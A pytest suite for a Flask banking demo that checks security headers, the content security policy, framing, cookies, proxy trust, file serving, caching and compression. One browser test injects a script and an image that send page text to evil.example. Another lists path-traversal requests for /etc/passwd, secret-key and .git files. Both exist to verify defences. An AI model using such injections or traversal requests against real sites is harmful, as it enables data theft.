"""What browsers may do with an answer, and who is believed about where a visitor came from."""

import gzip
import re
import shutil
from pathlib import Path

import pytest
from conftest import CDN, OUTSIDE, ROOT, Cdn, MakeApp
from flask import Flask
from flask.testing import FlaskClient
from helpers import cookies, own, problem
from helpers import record as post
from pages import opened, record, rows
from playwright.sync_api import Browser, expect

from server.web.responses import DOCUMENT_HEADERS, HEADERS, POLICY

HTTPS = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "bank.example"}


@pytest.mark.parametrize(
    "path", ["/", "/api/balances", "/client/app.js", "/api/nothing", "/nothing"]
)
def test_every_answer_has_the_security_headers(client: FlaskClient, path: str) -> None:
    answer = client.get(path, buffered=True)
    for name, value in HEADERS.items():
        assert value in answer.headers.getlist(name)
    for name, value in DOCUMENT_HEADERS.items():
        assert answer.headers.getlist(name) == ([] if path.endswith(".js") else [value])
    kept = {"no-cache"} if path.startswith("/client/") else {"private", "no-cache"}
    assert set(answer.headers["Cache-Control"].split(", ")) == kept


def test_the_content_policy_names_each_source_and_no_other() -> None:
    page = (ROOT / "client" / "index.html").read_text()
    (scripts,) = (rule for rule in POLICY if rule.startswith("script-src "))
    named = [source for source in scripts.split() if source.startswith("https:")]
    assert named == re.findall(rf'href="({CDN}[^"]+)"', page)
    assert scripts.split()[:3] == ["script-src", "'self'", "'unsafe-eval'"]
    assert "unsafe-inline" not in "".join(POLICY)


def test_the_content_policy_blocks_what_is_not_the_pages(
    browser: Browser, cdn: Cdn, url: str
) -> None:
    """The other tests of the page see that it works, for what is blocked fails them."""
    page = browser.new_context(service_workers="block").new_page()
    page.route(OUTSIDE, cdn)
    blocked: list[str] = []
    page.on("console", lambda message: blocked.append(message.text))
    record(opened(page, url), "5")
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.hacked = true";
        document.body.append(script);
        const image = document.createElement("img");
        image.setAttribute("onerror", "window.hacked = true");
        image.src = "https://evil.example/?" + document.body.textContent;
        document.body.append(image);
        document.body.setAttribute("style", "color: red");
    }""")
    expect(rows(page)).to_have_count(1)
    page.wait_for_timeout(200)
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
    assert len(blocked) >= 3
    page.context.close()


def test_no_other_page_may_frame_the_page(browser: Browser, url: str) -> None:
    page = browser.new_context(service_workers="block").new_page()
    page.route("**/frame", lambda route: route.fulfill(body=f"<iframe src='{url}/'></iframe>"))
    page.goto(f"{url.replace('127.0.0.1', 'localhost')}/frame")
    page.wait_for_timeout(200)
    assert "Good Bank" not in page.frames[1].locator("body").inner_text()
    page.context.close()


# Cookies, by way of https and of proxies


def test_over_https_the_cookie_belongs_to_the_host_alone(client: FlaskClient) -> None:
    (cookie,) = cookies(client.get("/", base_url="https://localhost", buffered=True))
    parts = cookie.split("; ")
    assert parts[0].startswith("__Host-good_bank=")
    assert {"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} <= set(parts)
    assert not any(part.startswith("Domain") for part in parts)
    (plain,) = cookies(client.get("/", buffered=True))
    assert plain.startswith("good_bank=")


def test_over_https_a_cookie_that_another_host_could_set_is_not_read(make_app: MakeApp) -> None:
    client = make_app().test_client(use_cookies=False)
    cookie = cookies(post(client))[0].partition(";")[0]
    assert len(own(client.get("/api/balances", headers={"Cookie": cookie}))) == 1
    answer = client.get("/api/balances", headers={"Cookie": cookie}, base_url="https://localhost")
    assert own(answer) == []


def test_a_trusted_proxy_says_where_the_visitor_came_from(make_app: MakeApp) -> None:
    client = make_app(TRUSTED_PROXIES=1).test_client()
    answer = client.post(
        "/api/update", json={"balance": "1"}, headers=HTTPS | {"Origin": "https://bank.example"}
    )
    assert len(own(answer)) == 1
    assert cookies(answer)[0].startswith("__Host-good_bank=")
    problem(client.delete("/api/balances", headers=HTTPS | {"Origin": "http://localhost"}), 403)


def test_nobody_is_trusted_unless_told(client: FlaskClient) -> None:
    (cookie,) = cookies(client.get("/", headers=HTTPS, buffered=True))
    assert cookie.startswith("good_bank=")
    origin = {"Origin": "https://bank.example"}
    problem(client.delete("/api/balances", headers=HTTPS | origin), 403)


# Files


@pytest.mark.parametrize(
    "path",
    [
        "/client/../server/api.py",
        "/client/%2e%2e/README.md",
        "/client/..%2f..%2fetc/passwd",
        "/client/",
    ]
    + ["/server/api.py", "/instance/secret-key", "/.git/config", "/client/vendor/../../Makefile"],
)
def test_nothing_but_the_clients_files_is_served(client: FlaskClient, path: str) -> None:
    problem(client.get(path), 404)


# Caching


def test_the_files_of_the_page_are_kept_until_they_change(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    (address,) = re.findall(r'href="(client-[0-9a-f]+/base.css)"', client.get("/").text)
    for path in (address, address.replace("base.css", "vendor/axios.min.js")):
        answer = client.get(f"/{path}", buffered=True)
        assert answer.status_code == 200
        assert answer.headers["Cache-Control"] == "public, max-age=31536000, immutable"
    app.static_folder = str(shutil.copytree(ROOT / "client", tmp_path / "client"))
    with (tmp_path / "client" / "series.js").open("a") as file:
        file.write("\n")
    assert address not in client.get("/").text
    answer = client.get(f"/{address}", buffered=True)  # asked for by a page of before
    assert answer.status_code == 200
    assert "no-cache" in answer.headers["Cache-Control"]


def test_an_answer_404_is_not_kept(client: FlaskClient) -> None:
    (address,) = re.findall(r'href="(client-[0-9a-f]+/)base.css"', client.get("/").text)
    answer = client.get(f"/{address}nothing.js")
    assert answer.status_code == 404
    assert "no-cache" in answer.headers["Cache-Control"]


# Compression


def test_a_long_answer_is_compressed_for_who_can_read_it(client: FlaskClient) -> None:
    plain = client.get("/api/balances")
    small = client.get("/api/balances", headers={"Accept-Encoding": "br, gzip"})
    assert "Content-Encoding" not in plain.headers
    assert small.headers["Content-Encoding"] == "gzip"
    assert gzip.decompress(small.data) == plain.data
    assert small.content_length == len(small.data) < len(plain.data) / 2
    assert "Accept-Encoding" in small.headers["Vary"]
    assert "Accept-Encoding" in plain.headers["Vary"]
    assert small.headers["ETag"] == plain.headers["ETag"]
    for encodings in ("gzip", "identity"):
        headers = {"If-None-Match": small.headers["ETag"], "Accept-Encoding": encodings}
        assert client.get("/api/balances", headers=headers).status_code == 304


def test_the_page_and_its_files_are_compressed(client: FlaskClient) -> None:
    for path in ("/", "/client/base.css", "/api/openapi.json"):
        plain = client.get(path, buffered=True)
        small = client.get(path, headers={"Accept-Encoding": "gzip"}, buffered=True)
        assert gzip.decompress(small.data) == plain.data
        assert len(small.data) < len(plain.data) / 2
    headers = {"Accept-Encoding": "gzip", "If-None-Match": client.get("/").headers["ETag"]}
    again = client.get("/", headers=headers)
    assert again.status_code == 304
    assert not again.data
    part = {"Accept-Encoding": "gzip", "Range": "bytes=0-9"}
    answer = client.get("/client/base.css", headers=part, buffered=True)
    assert (answer.status_code, len(answer.data)) == (206, 10)


def test_a_short_answer_is_not_compressed(client: FlaskClient) -> None:
    for refused in ("/api/health", "/api/nothing"):
        answer = client.get(refused, headers={"Accept-Encoding": "gzip"})
        assert "Content-Encoding" not in answer.headers
    client.delete("/api/balances")
    answer = client.get("/api/balances", headers={"Accept-Encoding": "gzip;q=0"})
    assert "Content-Encoding" not in answer.headers
